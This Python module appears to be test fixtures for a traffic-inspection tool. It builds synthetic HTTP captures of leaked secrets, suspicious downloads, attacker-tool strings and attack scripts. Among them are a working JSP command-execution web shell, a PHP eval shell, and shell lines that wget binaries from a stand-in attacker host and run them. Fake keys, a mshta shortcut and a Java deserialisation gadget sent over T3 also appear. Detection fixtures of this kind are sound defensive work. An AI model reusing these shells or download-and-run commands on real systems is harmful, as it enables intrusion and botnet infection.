"""Bodies that hold something: leaked secrets, programs, scripts, tools. All inert: headers, names and filler."""

from __future__ import annotations

import base64
import random
import struct

from captures.http import Exchange, attack, browse, get, post, response, visit
from captures.wire import ATTACKER, BENIGN, SERVER, Capture, TcpConversation

OCTETS = {"Content-Type": "application/octet-stream"}
TEXT = {"Content-Type": "text/plain"}
DOS_STUB = b"This program cannot be run in DOS mode.\r\r\n$"
WORKSTATION = "198.51.100.77"


def leaks() -> Capture:
    """A server that hands out its password file, repository, environment and keys; pages that only speak of them."""
    passwd = b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
    article = b"<p>The line <code>root:x:0:0:root:/root:/bin/bash</code> is root's.</p>"
    manual = b"<p>Set this in your .env file:</p><pre>\nDB_PASSWORD=secret123\n</pre>"
    title = b"<title>PHP 8.3.6 - phpinfo()</title>"
    phpinfo = b"<html><head>" + title + b'</head><body><h1 class="p">PHP Version 8.3.6</h1></body></html>'
    filler = base64.b64encode(random.Random(7).randbytes(480)).decode()
    lines = "\n".join(filler[i : i + 64] for i in range(0, len(filler), 64))
    label = "PRIVATE" + " KEY-----"  # in two parts, or scanners for secrets take this file for one
    pem = f"-----BEGIN RSA {label}\n{lines}\n-----END RSA {label}\n".encode()
    aws = f"[default]\naws_access_key_id = {'AKIA' + 'TEACUPS2TEACUPS3'}\naws_secret_access_key = {filler[:40]}\n"
    account = (
        f'{{"type": "service_account", "private_key": "-----BEGIN {label}\\n{filler[:64]}\\n",'
        ' "client_email": "tea@shop.iam.gserviceaccount.com"}'
    )
    capture = Capture()
    browse(capture, [get("/blog", response(article)), get("/docs/install", response(manual))])
    attack(
        capture,
        [
            get("/download?name=users", response(passwd, headers=TEXT)),
            get("/.git/config", response(b"[core]\n\trepositoryformatversion = 0\n\tbare = false\n", headers=TEXT)),
            get("/info.php", response(phpinfo)),
            get("/.env", response(b"APP_ENV=production\nDB_HOST=db\nDB_PASSWORD=tea-and-cups\n", headers=TEXT)),
            get("/server.key", response(pem, headers=TEXT)),
            get("/.aws/credentials", response(aws.encode(), headers=TEXT)),
            get("/account.json", response(account.encode(), headers={"Content-Type": "application/json"})),
        ],
    )
    browse(capture, sport=50001)
    return capture


def downloads() -> Capture:
    """Programs and documents that a workstation fetches; the first one is ordinary."""
    eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    ordinary = _pe([b".text", b".rdata"], 3000)
    elf = b"\x7fELF\x02\x01\x01" + bytes(57) + bytes(120) + b"UPX!" + random.Random(8).randbytes(2000)
    picture = b"GIF89a\x01\x00\x01\x00" + bytes(64) + _pe([b".text"], 800)
    rtf = b"{\\rtf1{\\object\\objemb{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300}}}"
    shortcut = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(56)
    shortcut += "mshta http://files.example.net/a.hta".encode("utf-16-le")
    batch = b"@echo off\r\nrem it does nothing\r\n"
    note = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1008)
    note += bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<Q", len(batch)) + bytes(12) + batch
    capture = Capture()
    pages = [
        get("/tools/setup.exe", response(ordinary, headers=OCTETS)),
        get("/eicar.com", response(eicar.encode(), headers=OCTETS)),
        get("/upx.exe", response(_pe([b"UPX0", b"UPX1"], 3000), headers=OCTETS)),
        get("/bins/x86", response(elf, headers=OCTETS)),
        get("/logo.gif", response(picture, headers={"Content-Type": "image/gif"})),
        get("/invoice.doc", response(rtf, headers={"Content-Type": "application/msword"})),
        get("/invoice.pdf.lnk", response(shortcut, headers=OCTETS)),
        get("/invoice.one", response(note, headers={"Content-Type": "application/onenote"})),
    ]
    for number, page in enumerate(pages):
        visit(capture, [page], WORKSTATION, 50600 + number)
    browse(capture)
    return capture


def tools() -> Capture:
    """Strings of Mimikatz, Meterpreter, a beacon's settings block and a miner's settings."""
    mimikatz = _pe([b".text"], 400) + "kuhl_m_sekurlsa\0gentilkiwi\0A La Vie, A L'Amour\0".encode("utf-16-le")
    stage = _pe([b".text"], 400) + b"metsrv.x64.dll\0ReflectiveLoader\0core_channel_open\0ext_server_stdapi\0"
    settings = bytes.fromhex("000100010002 0000 000200010002 0050 000300020004 0000ea60 000400020004 00100000")
    beacon = (
        random.Random(9).randbytes(900) + bytes(byte ^ 0x2E for byte in settings) + random.Random(10).randbytes(900)
    )
    pools = b'"pools": [{"url": "pool.example.org:3333"}]'
    miner = b'{"autosave": true, "donate-level": 1, "cpu": {"huge-pages": true}, ' + pools + b"}"
    capture = Capture()
    browse(capture, [get("/config.json", response(b'{"pools": ["a", "b"], "url": "/api"}', headers=TEXT))])
    visit(capture, [get("/m.exe", response(mimikatz, headers=OCTETS))], WORKSTATION, 50700, 80, ATTACKER)
    reverse = TcpConversation(capture, WORKSTATION, ATTACKER, 50701, 4444).open()
    reverse.server(struct.pack("<I", len(stage)) + stage)
    reverse.close()
    visit(capture, [get("/aaa9", response(beacon, headers=OCTETS))], WORKSTATION, 50702, 80, ATTACKER)
    visit(capture, [get("/config.json", response(miner, headers=TEXT))], WORKSTATION, 50703, 80, ATTACKER)
    return capture


def scripts() -> Capture:
    """Web shells and droppers in bodies, an encoded PowerShell command, a serialised Java object."""
    packed = b"<?php eval(gzinflate(base64_decode('S03OyFcwBAA='))); ?>"
    loader = b'<% if (request.getParameter("k") != null) { Runtime.getRuntime().exec(request.getParameter("k")); } %>'
    encoded = base64.b64encode("Write-Host 'a probe that does nothing but be long enough'".encode("utf-16-le"))
    dropper = (
        b'Set h = CreateObject("MSXML2.XMLHTTP")\r\nSet s = CreateObject("ADODB.Stream")\r\n'
        b's.SaveToFile "a.bin"\r\nCreateObject("WScript.Shell")\r\n'
    )
    bots = b"#!/bin/sh\n" + b"".join(
        f"wget http://{ATTACKER}/bot.{cpu}; chmod 777 bot.{cpu}; ./bot.{cpu}; rm -rf bot.{cpu}\n".encode()
        for cpu in ("mips", "mpsl", "arm7", "x86")
    )
    archive = base64.b64encode(b"PK\x03\x04\x14" + random.Random(11).randbytes(200))
    page = (
        b'<html><script>var d = atob("' + archive + b'"), a = document.createElement("a");\n'
        b'a.href = URL.createObjectURL(new Blob([d])); a.download = "order.zip"; a.click();</script></html>'
    )
    gadget = b"\xac\xed\x00\x05sr\x00:org.apache.commons.collections.functors.InvokerTransformer" + bytes(40)
    capture = Capture()
    install = b"#!/bin/sh\nwget http://203.0.113.80/tea.x86_64 && chmod +x tea.x86_64\n"
    browse(capture, [get("/install.sh", response(install, headers=TEXT))])
    java = {"Content-Type": "application/x-java-serialized-object"}
    served: list[Exchange] = [
        get("/theme.txt", response(packed, headers=TEXT)),
        get("/loader.txt", response(loader, headers=TEXT)),
        get("/run.bat", response(b"powershell -nop -w hidden -enc " + encoded + b"\r\n", headers=TEXT)),
        get("/update.vbs", response(dropper, headers=TEXT)),
        get("/bins.sh", response(bots, headers=TEXT)),
        get("/order.html", response(page)),
    ]
    for number, exchange in enumerate(served):
        visit(capture, [exchange], WORKSTATION, 50800 + number, 80, ATTACKER)
    attack(capture, [post("/invoker/JMXInvokerServlet", gadget, headers=java)], 43200)
    t3 = TcpConversation(capture, ATTACKER, SERVER, 43201, 7001).open()
    t3.client(b"t3 12.2.1\nAS:255\nHL:19\n\n")
    t3.server(b"HELO:12.2.1.3.false\nAS:2048\nHL:19\n\n")
    t3.client(struct.pack(">I", len(gadget)) + gadget)
    t3.close()
    visit(capture, [get("/", response())], BENIGN, 50900)
    return capture


def _pe(sections: list[bytes], size: int) -> bytes:
    """Return the headers of a PE file with these sections, and filler; it holds no code."""
    dos = b"MZ" + bytes(58) + struct.pack("<I", 0x80) + DOS_STUB
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, len(sections), 0, 0, 0, 0xE0, 0x102) + bytes(0xE0)
    table = b"".join(name.ljust(8, b"\0") + bytes(32) for name in sections)
    return dos.ljust(0x80, b"\0") + coff + table + random.Random(size).randbytes(size)
